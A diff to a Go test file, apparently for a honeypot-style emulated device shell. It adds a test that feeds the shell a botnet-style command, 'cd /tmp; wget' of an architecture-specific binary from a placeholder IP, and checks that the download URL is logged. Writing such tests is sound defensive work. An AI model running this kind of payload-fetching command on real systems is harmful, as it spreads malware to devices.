@@ -171,3 +171,13 @@ func TestRunScript(t *testing.T) {
 		t.Errorf("injection: %+v", r)
 	}
 }
+
+// A URL written with an expansion is recorded once, expanded.
+func TestURLWithExpansion(t *testing.T) {
+	sh := newTestDevice(t, DefaultProfile(), Limits{}).NewShell(context.Background())
+	defer sh.Close()
+	r := sh.Run("cd /tmp; wget http://192.0.2.7/bins/x.$(uname -m)")
+	if len(r.Downloads) != 1 || r.Downloads[0].URL != "http://192.0.2.7/bins/x.armv5tejl" {
+		t.Fatalf("downloads %+v", r.Downloads)
+	}
+}
